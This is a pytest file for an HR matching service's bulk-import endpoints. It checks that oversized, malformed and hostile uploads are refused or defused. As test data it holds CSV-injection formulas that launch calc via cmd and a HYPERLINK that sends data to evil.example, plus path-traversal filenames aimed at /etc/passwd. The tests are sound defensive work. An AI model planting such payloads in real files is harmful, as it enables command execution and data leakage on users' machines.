"""Uploads to POST /candidates:import and /postings:import (service/api/uploads.py): the row cap is
checked before rows are built, parsing and validation run off the event loop, hostile files
(nesting, bad UTF-8, formulas, path tricks, unknown fields) are refused with a clear 4xx, and
nothing is written when a file is refused."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from types import FrameType

import polars as pl
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text
from typer.testing import CliRunner

from service import bulk, bulk_read
from service.app import create_app
from service.cli import app as cli
from service.settings import Settings, get_settings
from tests.conftest import auth, settings_for
from tests.service.helpers import (
    DEEP,
    PROFILE,
    SKILLS,
    assert_clear_4xx,
    multipart_body,
    record_counts,
    written,
)

UPLOAD_TABLES = ("candidates", "postings", "embeddings", "companies")


ANA = {"name": "Ana", "skills": ["JS"], "location": "Barcelona"}


def tiny_parquet(rows: int) -> bytes:
    """`rows` rows of one repeated name (no skills, so no row is valid): a few kilobytes compressed."""
    buffer = io.BytesIO()
    pl.select(name=pl.repeat("Ana", rows, eager=True)).write_parquet(buffer, compression="zstd")
    return buffer.getvalue()


def counts(client: TestClient) -> dict[str, int]:
    with client.app.state.matcher.sessions() as session:
        return {t: session.scalar(text(f"SELECT count(*) FROM {t}")) for t in UPLOAD_TABLES}


@pytest.fixture
def capped(workdir: Path, tokens: dict[str, str]) -> Iterator[TestClient]:
    """The app with BRIDGEMATCH_MAX_IMPORT_ROWS=3."""
    with TestClient(create_app(settings_for(workdir, max_import_rows=3)), headers=auth(tokens["coordinator"])) as c:
        yield c


def _files(rows: int, fmt: str, record: dict = ANA) -> tuple[str, bytes]:
    items = [record | {"name": f"Person {i}"} for i in range(rows)]
    if fmt == "json":
        return "people.json", json.dumps(items).encode()
    if fmt == "jsonl":
        return "people.jsonl", "\n".join(json.dumps(item) for item in items).encode() + b"\n"
    frame = pl.DataFrame([{k: ";".join(v) if isinstance(v, list) else v for k, v in item.items()} for item in items])
    buffer = io.BytesIO()
    frame.write_csv(buffer) if fmt == "csv" else frame.write_parquet(buffer)
    return f"people.{fmt}", buffer.getvalue()


@pytest.fixture
def outside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """Run with an empty working directory and yield it; afterwards nothing new may exist around it."""
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    targets = [Path("/etc/passwd.csv"), Path("/etc/x.csv"), Path("/x.csv"), Path("/tmp/abs.csv")]
    present = {p for p in targets if p.exists()}
    before = {p for p in tmp_path.rglob("*") if "index" not in p.parts and "bridgematch.db" not in p.name}
    yield cwd
    after = {p for p in tmp_path.rglob("*") if "index" not in p.parts and "bridgematch.db" not in p.name}
    assert after == before, sorted(map(str, after - before))
    assert {p for p in targets if p.exists()} == present


def test_two_million_rows_in_a_few_kilobytes_of_parquet_are_413_and_write_nothing(client: TestClient) -> None:
    data = tiny_parquet(2_000_000)
    assert len(data) < 10_000
    before = counts(client)
    response = client.post("/candidates:import", files={"file": ("people.parquet", data)})
    assert response.status_code == 413, response.text[:300]
    detail = response.json()["detail"]
    assert "2,000,000 rows" in detail and "at most 50,000" in detail and "Split" in detail
    assert counts(client) == before


@pytest.mark.parametrize("fmt", ["csv", "parquet", "json", "jsonl"])
def test_a_file_over_the_row_setting_is_413_and_one_at_it_is_imported(capped: TestClient, fmt: str) -> None:
    before = counts(capped)
    response = capped.post("/candidates:import", files={"file": _files(4, fmt)})
    assert response.status_code == 413, response.text
    assert "at most 3 can be imported at once" in response.json()["detail"]
    assert counts(capped) == before
    response = capped.post("/candidates:import", files={"file": _files(3, fmt)})
    assert response.status_code == 201 and response.json()["imported"] == 3, response.text


def test_postings_import_has_the_same_row_cap(capped: TestClient) -> None:
    posting = {"company": "Sol Digital SL", "title": "Dev", "required_skills": ["JS"], "location": "Barcelona"}
    before = counts(capped)
    response = capped.post("/postings:import", files={"file": _files(4, "csv", posting)})
    assert response.status_code == 413 and "more than 3 rows" in response.json()["detail"], response.text
    assert counts(capped) == before


def test_a_csv_with_thousands_of_columns_is_413_before_polars_builds_them(client: TestClient) -> None:
    header = ",".join(f'"c{i}"' for i in range(100_000))
    before = counts(client)
    response = client.post("/candidates:import", files={"file": ("wide.csv", f"{header}\n".encode())})
    assert response.status_code == 413 and "100,000 columns" in response.json()["detail"], response.text
    assert counts(client) == before


def test_parsing_and_validation_run_in_a_worker_thread_not_the_event_loop(
    workdir: Path, tokens: dict[str, str]
) -> None:
    """Watched with a profile hook on the real call path: while a big file is parsed, the event
    loop (and so /health) stays free."""
    watched = {bulk_read.read_rows.__code__: "read_rows", bulk.parse_records.__code__: "parse_records"}
    seen: dict[str, set[int]] = {name: set() for name in watched.values()}

    def profile(frame: FrameType, event: str, _arg: object) -> None:
        if event == "call" and frame.f_code in watched:
            seen[watched[frame.f_code]].add(threading.get_ident())

    threading.setprofile(profile)  # threads started from here on: the app's event loop and its workers
    try:
        with TestClient(create_app(settings_for(workdir)), headers=auth(tokens["coordinator"])) as client:
            loop_thread = client.portal.call(threading.get_ident)
            name, data = _files(2, "csv", {"name": "Ana", "skills": [], "location": "Barcelona"})
            response = client.post("/candidates:import", files={"file": (name, data)})
    finally:
        threading.setprofile(None)
    assert response.status_code == 422 and "row 1" in response.text  # no skills: parsed, then refused
    assert seen["read_rows"] and seen["parse_records"], seen
    assert loop_thread not in seen["read_rows"] | seen["parse_records"]


@pytest.mark.parametrize("line", ["1", '"x"', "[1]", "null", "true", "2.5"])
def test_a_json_lines_row_that_is_not_an_object_is_422_naming_its_line(client: TestClient, line: str) -> None:
    data = f"{json.dumps(ANA)}\n\n{line}\n".encode()
    before = counts(client)
    response = client.post("/candidates:import", files={"file": ("people.jsonl", data)})
    assert response.status_code == 422, response.text
    assert response.json()["errors"] == [response.json()["errors"][0]]
    assert response.json()["errors"][0].startswith("line 3:") and "not an object" in response.text
    assert counts(client) == before


def test_a_json_array_element_that_is_not_an_object_is_422_naming_its_row(client: TestClient) -> None:
    data = json.dumps([ANA, 1, ANA, None]).encode()
    before = counts(client)
    response = client.post("/candidates:import", files={"file": ("people.json", data)})
    assert response.status_code == 422, response.text
    errors = response.json()["errors"]
    assert [e.split(":")[0] for e in errors] == ["row 2", "row 4"] and "not an object" in errors[0]
    assert counts(client) == before


def test_a_bad_json_line_is_named_by_its_line_in_the_file(client: TestClient) -> None:
    data = f"{json.dumps(ANA)}\n{json.dumps(ANA)}\n{{oops\n".encode()
    response = client.post("/candidates:import", files={"file": ("people.ndjson", data)})
    assert response.status_code == 422 and "line 3" in response.json()["detail"], response.text


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("deep.json", DEEP),
        ("rows.json", b'[{"name": "x", "skills": ' + DEEP + b"}]"),
        ("rows.ndjson", b'{"name": "x", "skills": ' + DEEP + b"}\n"),
    ],
    ids=["array", "in-a-row", "ndjson"],
)
def test_deeply_nested_json_import_file(client: TestClient, name: str, data: bytes) -> None:
    before = written(client)
    response = client.post("/candidates:import", files={"file": (name, data, "application/json")})
    assert_clear_4xx(response)
    assert written(client) == before


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("people.csv", b"name,skills\nAna,JS\n\xff\xfe,Python\n"),
        ("people.json", b'[{"name": "Ana", "skills": ["JS"]}, {"name": "\xff", "skills": ["JS"]}]'),
        ("people.ndjson", b'{"name": "Ana", "skills": ["JS"]}\n{"name": "\xc3", "skills": ["JS"]}\n'),
    ],
    ids=["csv", "json", "ndjson"],
)
def test_invalid_utf8_import_file(client: TestClient, name: str, data: bytes) -> None:
    before = written(client)
    response = client.post("/candidates:import", files={"file": (name, data)})
    assert response.status_code == 422 and "UTF-8" in response.json()["detail"], response.text
    assert written(client) == before


def test_formula_cells_imported_then_exported_are_defused(
    client: TestClient, workdir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """CSV injection: every cell a spreadsheet would run comes back out of `bridgematch export` quoted."""
    formulas = {
        "name": "=cmd|' /C calc'!A0",
        "headline": "+1+cmd|' /C notepad'!A0",
        "summary": "-2+3+cmd|' /C calc'!A0",
        "location": "@SUM(1+1)*cmd|' /C calc'!A0",
        "skills": "=HYPERLINK(\"http://evil.example/?x=\"&A1);Python",
        "projects": "@import",
    }
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=[*formulas, "external_id"])
    writer.writeheader()
    writer.writerow(formulas | {"external_id": "formula-1"})
    response = client.post("/candidates:import", files={"file": ("evil.csv", buffer.getvalue(), "text/csv")})
    assert response.status_code == 201, response.text
    stored = client.get(f"/candidates/{response.json()['ids'][0]}").json()
    assert stored["name"] == formulas["name"]  # stored as given: only the export defuses

    monkeypatch.setenv("BRIDGEMATCH_DATABASE_URL", f"sqlite:///{workdir / 'bridgematch.db'}")
    monkeypatch.setenv("BRIDGEMATCH_INDEX_DIR", str(workdir / "index"))
    get_settings.cache_clear()
    out = tmp_path / "export.csv"
    try:
        result = CliRunner().invoke(cli, ["export", "--kind", "candidates", str(out)])
    finally:
        get_settings.cache_clear()
    assert result.exit_code == 0, result.output
    rows = {row["external_id"]: row for row in csv.DictReader(io.StringIO(out.read_text()))}
    exported = rows["formula-1"]
    for field, value in formulas.items():
        assert exported[field].startswith("'"), (field, exported[field])
        assert exported[field][1:].startswith(value[:1])
    unsafe = [cell for row in rows.values() for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert unsafe == []


@pytest.mark.parametrize(
    "filename",
    [
        b"../../etc/passwd.csv",
        b"..\\..\\..\\etc\\x.csv",
        b"C:\\x.csv",
        b"/etc/x.csv",
        b"/tmp/abs.csv",
        b"x\x00.csv",
        b"../x.csv\x00.exe",
        b"x.csv.exe",
        b"..",
        b"passwd",
        b"%2e%2e%2fx.csv",
    ],
)
def test_path_tricks_in_upload_names(client: TestClient, outside: Path, filename: bytes) -> None:
    """Only the extension picks the parser; no name makes the server write anywhere."""
    before = written(client)
    body, headers = multipart_body(filename, b"name,skills,location\nAna,JS,Barcelona\n")
    response = client.post("/candidates:import", content=body, headers=headers)
    suffix = Path(filename.decode("utf-8", "replace")).suffix.lower()
    if suffix == ".csv":
        assert response.status_code == 201, response.text
        assert written(client)["candidates"] == before["candidates"] + 1
    else:
        assert_clear_4xx(response)
        assert "format" in response.json()["detail"]
        assert written(client) == before
    assert list(outside.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "data", "field"),
    [
        ("p.csv", b"name,skills,salary\nAna,JS,100\n", "salary"),
        ("p.json", json.dumps([PROFILE, PROFILE | {"is_admin": True}]).encode(), "is_admin"),
    ],
    ids=["csv-column", "json-key"],
)
def test_unknown_fields_in_import_files_are_422(client: TestClient, name: str, data: bytes, field: str) -> None:
    before = written(client)
    response = client.post("/candidates:import", files={"file": (name, data)})
    assert response.status_code == 422 and field in response.text, response.text
    assert written(client) == before


def test_ten_thousand_skills_in_an_import_row_are_422(client: TestClient) -> None:
    before = written(client)
    data = ("name,skills\nAna,JS\nBo," + ";".join(SKILLS) + "\n").encode()
    response = client.post("/candidates:import", files={"file": ("p.csv", data)})
    assert response.status_code == 422 and "row 2" in response.text and "skills" in response.text
    assert written(client) == before


def test_three_megabyte_import_with_one_bad_row_writes_nothing(client: TestClient) -> None:
    rows = [
        PROFILE | {"name": f"Person {i}", "summary": f"Bootcamp graduate number {i}. " * 6,
                   "skills": ["Python", "Django", "SQL", "React"], "external_id": f"bulk-{i}"}
        for i in range(9_000)
    ]
    rows[7_777]["languages"] = {"es": "Z9"}
    data = json.dumps(rows).encode()
    assert 3_000_000 <= len(data) < Settings().max_upload_bytes
    before = written(client)
    response = client.post("/candidates:import", files={"file": ("big.json", data, "application/json")})
    assert response.status_code == 422, response.text[:300]
    assert "row 7778" in response.text and "languages" in response.text
    assert written(client) == before
    assert client.get("/candidates", params={"limit": 1}).json()["total"] == before["served_candidates"]


@pytest.mark.both_backends
def test_import_is_all_or_nothing(client: TestClient) -> None:
    before = record_counts(client)
    csv = "name,skills,languages,location,work_permit\nAna,JS;React,es:B2;en:B1,Barcelona,true\nBo,,es:B2,Zagreb,true\n"
    response = client.post("/candidates:import", files={"file": ("../../etc/people.csv", csv, "text/csv")})
    assert response.status_code == 422
    assert "row 2" in response.text and "skills" in response.text
    assert record_counts(client) == before
    good = csv.replace("Bo,,", "Bo,Python,")
    response = client.post("/candidates:import", files={"file": ("people.csv", good, "text/csv")})
    assert response.status_code == 201 and response.json()["imported"] == 2
    assert record_counts(client)[0] == before[0] + 2
    assert client.post("/postings:import", files={"file": ("x.exe", b"MZ", "application/octet-stream")}).status_code == 422


@pytest.mark.both_backends
def test_a_parquet_import_keeps_list_skills_and_language_levels(client: TestClient) -> None:
    import polars as pl

    frame = pl.DataFrame({"company": ["Sol Digital SL"], "title": ["Dev"], "required_skills": [["JS", "CSS"]],
                          "languages": ["es:B1"], "location": ["Barcelona"]})
    buffer = io.BytesIO()
    frame.write_parquet(buffer)
    response = client.post("/postings:import", files={"file": ("p.parquet", buffer.getvalue())})
    assert response.status_code == 201, response.text
    posting = client.get(f"/postings/{response.json()['ids'][0]}").json()
    assert posting["required_skills"] == ["JS", "CSS"] and posting["languages"] == {"es": "B1"}
